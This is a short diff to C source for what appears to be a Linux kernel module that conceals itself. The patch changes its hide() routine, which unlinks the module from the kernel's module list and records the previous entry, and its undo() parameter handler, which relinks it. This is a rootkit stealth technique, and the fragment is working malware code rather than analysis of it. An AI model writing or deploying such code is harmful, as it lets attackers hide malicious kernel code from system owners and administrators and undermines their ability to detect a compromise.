@@ -13,14 +13,12 @@
 VARIANT("list");
 KERNEL_SYMBOL(mod_tree);
 KERNEL_SYMBOL(mod_tree_remove);
-KERNEL_SYMBOL(modules);
+static struct list_head *before;
 
 static int undo(const char *value, const struct kernel_param *parameter)
 {
-	if (!modules_at)
-		return -ENOENT;
 	if (list_empty(&THIS_MODULE->list))
-		list_add_rcu(&THIS_MODULE->list, (struct list_head *)modules_at);
+		list_add_rcu(&THIS_MODULE->list, before);
 	return 0;
 }
 static const struct kernel_param_ops undo_operations = {.set = undo};
@@ -43,6 +41,7 @@ static void leave_tree(void)
 /* Once it is loaded: the loader itself still goes by these records. */
 static void hide(struct work_struct *work)
 {
+	before = THIS_MODULE->list.prev;
 	list_del_init(&THIS_MODULE->list);
 	if (HOW("list"))
 		return;
